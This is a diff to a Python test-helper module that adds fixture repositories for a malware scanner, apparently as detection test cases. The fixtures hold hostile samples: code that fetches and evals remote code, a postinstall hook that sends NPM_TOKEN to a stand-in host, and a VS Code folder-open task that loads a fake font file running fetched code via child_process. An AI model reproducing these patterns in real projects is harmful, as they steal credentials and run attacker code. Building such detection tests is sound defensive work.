@@ -87,3 +87,16 @@ def _literal(value: object) -> str:
 def values_sql(rows: list[tuple], columns: str) -> str:
     """The same rows for the oracle: (VALUES ...) AS t(columns)."""
     return "(VALUES " + ", ".join("(" + ", ".join(map(_literal, r)) + ")" for r in rows) + f") AS t({columns})"
+
+
+#: (repository, path, text): small repositories with a trigger, for whole scans
+REPOSITORIES = [
+    ("eval", "package.json", '{"scripts": {"start": "node src/index.js"}}'),
+    ("eval", "src/index.js", "async function boot() {\n  const r = await fetch('https://a.example.invalid');\n  const t = await r.text();\n  eval(t);\n}\nboot();\n"),
+    ("secret", "package.json", '{"scripts": {"postinstall": "node scripts/collect.js"}}'),
+    ("secret", "scripts/collect.js", "const https = require('https');\nhttps.request('https://a.example.invalid/' + process.env.NPM_TOKEN);\n"),
+    ("tasks", ".vscode/tasks.json", '{"tasks": [{"label": "a", "command": "node stage.js", "runOptions": {"runOn": "folderOpen"}},]}'),
+    ("tasks", "stage.js", "require('./fonts/icon.woff2');\n"),
+    ("tasks", "fonts/icon.woff2", "const cp = require('child_process');\nfetch('https://a.example.invalid').then(r => r.text()).then(t => { cp.exec(t); });\n"),
+    ("clean", "index.js", "export const answer = 42;\n"),
+]
